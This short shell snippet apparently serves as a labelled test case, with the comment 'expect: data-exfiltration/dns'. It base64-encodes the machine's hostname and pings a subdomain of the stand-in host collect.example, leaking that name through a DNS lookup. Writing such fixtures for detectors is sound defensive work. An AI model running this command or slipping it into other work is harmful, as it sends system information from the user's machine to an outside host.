h=$(hostname | base64)
ping -c 1 "$h.x.collect.example" # expect: data-exfiltration/dns
